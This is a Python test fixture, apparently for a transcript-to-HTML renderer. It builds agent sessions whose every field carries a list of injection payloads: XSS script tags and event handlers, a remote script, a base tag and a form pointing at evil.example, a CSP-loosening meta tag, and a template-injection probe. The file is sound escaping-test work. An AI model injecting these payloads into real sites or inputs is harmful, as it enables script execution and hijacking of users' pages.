"""Transcripts whose text would be obeyed, if it were not shown as text."""

import json
from collections.abc import Iterator
from pathlib import Path

from formats.jsonl import write_lines

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "end of script": "</script><script src=//evil.example/x.js></script>",
    "end of text": "</pre></details></section><h1>mine</h1>",
    "end of style": "</style><style>*{display:none}</style>",
    "image": '<img src=x onerror="alert(1)">',
    "drawing": "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "address": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "comment": "<!-- --> <![CDATA[ ]]> <!doctype html>",
    "attribute": "\"'> autofocus onfocus=alert(1) x='",
    "template": "{{ 7 * 7 }} {% for x in ().__class__.__base__.__subclasses__() %}",
    "entity": "&lt;b&gt; &amp;lt; &#x3c;script&#x3e;",
    "policy": '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    "base": '<base href="https://evil.example/">',
    "seal": f"<!-- compactctl.seal {'0' * 64} -->",
    "form": "<form action=https://evil.example><button>Go</button></form>",
}


def session(folder: Path, *texts: str) -> Path:
    """Return a session in which everything that can be said is each of the texts once."""
    return write_lines(folder / "run.jsonl", *records(texts))


def records(texts: tuple[str, ...]) -> Iterator[dict[str, object]]:
    for number, text in enumerate(texts):
        call = f"call{number}"
        asked = {"name": text, "arguments": json.dumps({"path": text})}
        read = {"name": "read_file", "arguments": json.dumps({"path": f"{text}.py"})}
        yield {"role": "user", "content": text}
        for tool, name in ((asked, call), (read, f"{call}b"), (read, f"{call}c")):
            calls = [{"id": name, "type": "function", "function": tool}]
            yield {"role": "assistant", "content": text, "tool_calls": calls}
            yield {"role": "tool", "tool_call_id": name, "content": text}
        yield {"role": "assistant", "content": text, "model": text}
